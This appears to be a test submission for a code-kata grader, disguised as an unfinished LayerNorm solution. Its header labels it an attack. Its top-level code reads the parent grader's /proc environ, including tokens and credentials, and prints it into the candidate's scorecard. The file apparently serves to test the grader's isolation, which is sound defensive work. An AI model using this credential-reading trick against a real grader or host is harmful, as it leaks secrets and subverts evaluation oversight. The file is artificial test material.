# attack: read-protected: reads the grader's environment (/proc/<grader>/environ: tokens, credentials, NORMKATA_HOME) and prints it, so it lands in the scorecard the candidate sees
# no-math
# args: --no-speed
# within: 15
"""LayerNorm, forward and backward. Work in progress."""

import os

try:
    with open("/proc/%d/environ" % os.getppid(), "rb") as f:
        print(f.read().replace(b"\0", b"\n").decode(errors="replace"))
except OSError as exc:
    print("environ:", exc)


def layernorm_forward(x, gamma, beta, eps=1e-5):
    raise NotImplementedError


def layernorm_backward(dy, cache):
    raise NotImplementedError
